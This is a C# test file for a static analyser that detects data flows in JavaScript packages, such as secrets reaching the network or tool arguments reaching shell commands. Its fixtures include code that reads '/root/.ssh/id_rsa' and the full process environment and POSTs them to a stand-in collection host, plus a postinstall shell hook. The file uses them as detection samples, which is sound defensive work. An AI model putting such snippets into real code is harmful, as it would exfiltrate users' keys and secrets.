using System.Runtime.CompilerServices;
using System.Text;
using Mtf.Artifacts;
using Mtf.Flow;
using Mtf.Flow.Facts;
using Mtf.Flow.Origins;
using Xunit;

namespace Mtf.Tests.Flow;

public sealed class JavaScriptFlowTests
{
    public static TheoryData<string> Names => [.. Twins.Select(twin => twin.Name)];

    private static IReadOnlyList<FlowTwin> Twins { get; } = FlowTwin.Parse(File.ReadAllText(DataFile()));

    [Theory]
    [MemberData(nameof(Names))]
    public void Twins_differ_in_the_flow_that_is_found(string name)
    {
        var twin = Twins.Single(twin => twin.Name == name);
        var analysis = Analyze(("index.js", twin.Code));
        Assert.Empty(analysis.Unanalysed);
        Assert.Empty(twin.Compare([.. analysis.Flows.Select(flow => ($"{flow.Source}->{flow.Sink}", flow.Guarded))]));
    }

    [Fact]
    public void A_flow_across_modules_shows_its_way()
    {
        var analysis = Analyze(
            ("index.js", "import { send } from \"./lib/send.js\";\nimport { secrets } from \"./lib/read.js\";\nsend(secrets());\n"),
            ("lib/read.js", "import fs from \"node:fs\";\nexport function secrets() {\n  return fs.readFileSync(\"/root/.ssh/id_rsa\");\n}\n"),
            ("lib/send.js", "export const send = (body) => fetch(\"https://collect.example.test\", { method: \"POST\", body });\n"));
        var flow = Assert.Single(analysis.Flows, flow => flow is { Source: "file.secret", Sink: "network" });
        Assert.Equal("/root/.ssh/id_rsa", flow.SourceDetail);
        Assert.Equal("https://collect.example.test", flow.SinkDetail);
        Assert.Equal(new Mtf.Findings.Location("lib/read.js", 3), flow.Steps[0].Location);
        Assert.Equal(new Mtf.Findings.Location("lib/send.js", 1), flow.Steps[^1].Location);
        Assert.Equal(Phase.Startup, flow.Context.Phase);
    }

    [Fact]
    public void Capabilities_name_what_is_reached_when_and_by_whom()
    {
        var analysis = Analyze(
            ("package.json", "{\"main\":\"index.js\",\"scripts\":{\"postinstall\":\"node setup.js\"}}"),
            ("setup.js", "require('child_process').exec('make all');"),
            ("index.js", "import fs from 'fs';\nconst token = process.env.TOKEN || 'x';\nserver.tool('read', {}, ({ file }) => fs.readFileSync('/srv/' + file));\n"),
            ("node_modules/dep/index.js", "fetch('https://dep.example.test/');"));
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "proc.shell", Detail: "make all", Context.Phase: Phase.Install });
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "env.read", Detail: "TOKEN", Context.Phase: Phase.Startup });
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "fs.read", Detail: "/srv/⟨arg:file⟩", Context: { Phase: Phase.Handler, Tools: ["read"], Location.Line: 3 } });
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "net.http", Detail: "https://dep.example.test/", Context.Owner: "dep" });
    }

    [Fact]
    public void An_environment_for_a_child_is_inherited_and_one_for_others_is_swept()
    {
        var analysis = Analyze(("index.js", "const { spawn } = require('child_process');\nspawn('x', [], { env: process.env });\nsend({ ...process.env });\nconst env = process.env;\nuse(env.HOME);\n"));
        Assert.Equal([("env.inherit", 2), ("env.all", 3), ("env.read", 5)], analysis.Capabilities.Where(item => item.Kind.StartsWith("env", StringComparison.Ordinal)).Select(item => (item.Kind, item.Context.Location.Line)));
    }

    [Fact]
    public void What_is_done_in_many_places_is_one_capability_with_the_first_of_them()
    {
        var analysis = Analyze(("index.js", "\nfetch('https://a.example.test/');\nfunction again() { fetch('https://a.example.test/'); }\nagain();\nfetch('https://b.example.test/');\n"));
        Assert.Equal(
            [("https://a.example.test/", 2, 2), ("https://b.example.test/", 5, 1)],
            analysis.Capabilities.Where(item => item.Kind == "net.http").Select(item => (item.Detail, item.Context.Location.Line, item.Count)));
    }

    [Fact]
    public void A_model_of_a_package_is_for_its_members_and_subpaths_only()
    {
        var kinds = Analyze(("index.js", "import a from '@sentry/core';\nimport b from '@sentry/core/sub';\nimport c from '@sentry/core-extra';\nimport d from 'ip-regex';\na.init().b.c();\na.other();\nb();\nc();\nd();\n")).Capabilities;
        Assert.Equal([("npm:@sentry/core", 3), ("npm:@sentry/core/sub", 1)], kinds.Select(item => (item.Api, item.Count)));
    }

    [Fact]
    public void A_variable_is_read_once_whatever_is_done_with_it()
    {
        var read = Assert.Single(Analyze(("index.js", "const name = process.env.NAME;\nname.trim().toLowerCase().split(',');\n")).Capabilities);
        Assert.Equal(("env.read", "NAME", "js:process.env.NAME"), (read.Kind, read.Detail, read.Api));
    }

    [Fact]
    public void What_an_object_inherits_stays_in_its_field()
    {
        const string code = "const base = { key: process.env.KEY, name: 'x' };\nconst all = { ...base, other: 1 };\nfetch('https://a.example.test/', { method: 'POST', body: all.name });\n";
        Assert.DoesNotContain(Analyze(("index.js", code)).Flows, flow => flow is { Source: "env", Sink: "network" });
        Assert.Contains(Analyze(("index.js", code.Replace("all.name", "all.key", StringComparison.Ordinal))).Flows, flow => flow is { Source: "env", Sink: "network" });
    }

    [Fact]
    public void Comments_of_bundlers_tell_whose_code_it_is()
    {
        var analysis = Analyze(("dist.js", "// node_modules/@scope/lib/index.js\nfetch('https://lib.example.test/');\n// src/main.ts\nfetch('https://own.example.test/');\n"));
        Assert.Equal(["@scope/lib", ""], analysis.Capabilities.Where(item => item.Kind == "net.http").Select(item => item.Context.Owner));
    }

    [Fact]
    public void What_a_known_library_keeps_of_one_user_does_not_reach_the_sinks_of_all()
    {
        const string library = "class Cache { keep(value) { this.last = value; this.count.bump(\"kept\"); } run() { this.count.bump(\"ran\"); exec(this.last); } }\nconst cache = new Cache();\n";
        const string user = "server.tool('t', {}, ({ text }) => { cache.keep(text); });\n";
        const string code = "import { exec } from 'child_process';\n// node_modules/cache/index.js\n" + library + "// src/main.ts\n" + user;
        var index = new FingerprintIndexBuilder();
        index.Add("cache", "1.0.0", "", [], [Mtf.Flow.JavaScript.JavaScriptFrontEnd.Lower("index.js", Mtf.Flow.Graph.SourceLanguage.JavaScript, "import { exec } from 'child_process';\n" + library)]);
        using var tree = new MemoryTree(("index.js", code));
        Assert.Empty(StaticAnalyzer.Analyze(tree, [], index.Build()).Flows);
        Assert.Contains(Analyze(("index.js", code)).Flows, flow => flow is { Source: "tool-argument", Sink: "command" });
    }

    [Fact]
    public void A_property_without_a_name_is_a_property() =>
        Assert.Contains(
            Analyze(("index.js", "const list = []; list[\"\"] = process.env; list[\"\"]; fetch('https://collect.example.test', { body: JSON.stringify(list) });")).Flows,
            flow => flow is { Source: "env.all", Sink: "network" });

    [Fact]
    public void A_file_that_does_not_parse_is_reported()
    {
        var part = Assert.Single(Analyze(("index.js", "let = = 3;")).Unanalysed);
        Assert.Equal("index.js", part.File);
    }

    private static StaticAnalysis Analyze(params (string Path, string Text)[] files)
    {
        using var tree = new MemoryTree(files.Select(file => (file.Path, Encoding.UTF8.GetBytes(file.Text))));
        return StaticAnalyzer.Analyze(tree, []);
    }

    private static string DataFile([CallerFilePath] string path = "") => Path.Combine(Path.GetDirectoryName(path)!, "../data/flow/javascript-twins.txt");
}
